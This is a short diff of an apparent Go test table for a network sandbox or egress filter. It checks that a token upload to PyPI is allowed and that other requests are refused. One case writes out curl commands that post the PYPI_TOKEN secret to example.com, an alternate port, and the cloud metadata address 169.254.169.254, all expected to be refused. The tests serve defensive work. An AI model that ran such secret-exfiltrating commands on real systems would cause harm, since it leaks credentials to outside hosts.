@@ -30,7 +30,8 @@ touch here 2>/dev/null || echo read only; echo "secret: $SOME_TOKEN"`,
 			"world: example.com /page\nworld: other.test /too\nrefused\nrefused\nrefused\nread only\nsecret: \n", "GET example.com/page ",
 		},
 		{
-			"publish", []string{"--env", "PYPI_TOKEN=given"},
+			"publish",
+			[]string{"--env", "PYPI_TOKEN=given"},
 			`echo wheel >package.whl; curl -sS --http1.1 -u "__token__:$PYPI_TOKEN" -F content=@package.whl https://upload.pypi.org/legacy/
 for u in https://example.com/ http://upload.pypi.org:8080/ http://169.254.169.254/; do curl -fsS -m 60 -F "content=$PYPI_TOKEN" $u 2>/dev/null || echo refused; done`,
 			"world: upload.pypi.org /legacy/\nrefused\nrefused\nrefused\n", "POST upload.pypi.org/legacy/ Basic X190b2tlbl9fOmdpdmVu",
